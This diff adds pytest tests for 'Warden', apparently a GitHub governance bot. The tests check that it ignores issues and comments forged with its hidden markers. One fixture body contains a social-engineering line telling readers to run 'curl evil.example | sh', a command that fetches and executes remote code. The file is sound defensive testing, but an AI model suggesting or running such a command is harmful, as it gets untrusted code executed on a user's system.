@@ -1,0 +1,101 @@
+"""Attacks on Warden: forged hidden markers, injected mentions, leaks of embargoed content.
+
+Each test names what an attacker (or a careless admin) tries and what Warden does instead."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from app.advisories import templates as at
+from app.clock import Clock
+from app.nominations import templates as nt
+from app.orgconfig import CONFIG_PATH
+from app.orgconfig import templates as ot
+from config.check import ISSUE_MARKER
+from sandbox import Sandbox
+from tests import advisory_world as aw
+from tests import nomination_world as nw
+from tests.harness import Stack, running
+
+GOOD = "team: psrt\ngovernance_repo: psrt-governance\n"
+BAD = GOOD + "votes:\n  nomination:\n    threshold: two thirds\n"
+
+
+async def test_forged_config_error_issue_in_the_public_github_repo_is_never_edited_or_closed(
+    sandbox: Sandbox, stack: Stack
+) -> None:
+    aw.seed(sandbox, GOOD)
+    sandbox.add_user("eve")
+    forged_body = f"{ISSUE_MARKER}\nPlease run `curl evil.example | sh` to fix the config."
+    forged = await sandbox.open_issue(
+        "python", ".github", "eve", "Warden config error", forged_body, [ot.ERROR_LABEL]
+    )
+    await sandbox.push("python", ".github", "main", {CONFIG_PATH: BAD}, sender="alice")
+    await aw.settled(stack)
+    repo = sandbox.repo("python", ".github")
+    assert repo.issues[forged].body == forged_body  # not taken over
+    [own] = [i for i in repo.issues.values() if i.user == sandbox.bot_login]
+    assert "threshold" in (own.body or "")
+
+    await sandbox.push("python", ".github", "main", {CONFIG_PATH: GOOD}, sender="alice")
+    await aw.settled(stack)
+    assert repo.issues[forged].state == "open"  # Warden closes only its own issue
+    assert own.state == "closed"
+
+
+async def test_forged_tracking_issue_is_not_adopted_for_an_advisory(
+    sandbox: Sandbox, clock: Clock, tmp_path: Path
+) -> None:
+    installation_id = aw.seed(sandbox, aw.CONFIG + "  tracking_issues: false\n")
+    async with running(sandbox, clock, tmp_path) as stack:
+        ghsa = await aw.report(stack)
+        # Someone who saw the advisory plants an issue that looks like Warden's tracking issue.
+        forged = await sandbox.open_issue(
+            aw.ORG, aw.GOV, "bob", f"{ghsa} tracking", at.marker(ghsa), [at.LABEL]
+        )
+        await sandbox.push(aw.ORG, ".github", "main", {CONFIG_PATH: aw.CONFIG}, sender="alice")
+        await aw.settled(stack)
+        await aw.sweep(stack, installation_id)
+        await aw.settled(stack)
+        gov = sandbox.repo(aw.ORG, aw.GOV)
+        [own] = [i for i in gov.issues.values() if i.number != forged and at.LABEL in i.labels]
+        assert own.user == sandbox.bot_login and own.title.startswith(ghsa)
+        record = await stack.ctx.store.fetchrow("SELECT tracking_issue FROM advisories")
+        assert record is not None and record["tracking_issue"] == own.number
+        assert gov.issues[forged].body == at.marker(ghsa) and not gov.issues[forged].comments
+
+
+async def test_forged_onboarding_issue_does_not_stop_the_real_one(
+    sandbox: Sandbox, clock: Clock, tmp_path: Path
+) -> None:
+    nw.seed(sandbox)
+    async with running(sandbox, clock, tmp_path) as stack:
+        number = await nw.nominate(stack)
+        forged = await sandbox.open_issue(
+            nw.ORG, nw.GOV, "bob", "Welcome", nt.onboarding_marker(number), [nt.ONBOARDING]
+        )
+        nw.react(sandbox, number, alice="+1", bob="+1", carol="+1", dave="+1", erin="+1")
+        nw.react(sandbox, number, frank="+1")
+        await nw.sweep(stack)
+        onboarding = [
+            i
+            for i in sandbox.repo(nw.ORG, nw.GOV).issues.values()
+            if nt.ONBOARDING in i.labels and i.number != forged
+        ]
+        assert [i.user for i in onboarding] == [sandbox.bot_login]
+        assert "@grace" in onboarding[0].title
+
+
+async def test_forged_not_set_up_reply_does_not_silence_warden(
+    sandbox: Sandbox, stack: Stack
+) -> None:
+    from sandbox.testing import seed_psrt
+
+    seed_psrt(sandbox)
+    number = await sandbox.open_issue("python", "psrt-governance", "bob", "Nominate carol")
+    await sandbox.comment("python", "psrt-governance", number, "alice", ot.NOT_SET_UP_MARKER)
+    await sandbox.comment("python", "psrt-governance", number, "bob", "/vote status")
+    await aw.settled(stack)
+    issue = sandbox.world.issue(sandbox.repo("python", "psrt-governance"), number)
+    authors = [sandbox.world.comments[c].user for c in issue.comments]
+    assert authors == ["alice", "bob", sandbox.bot_login]
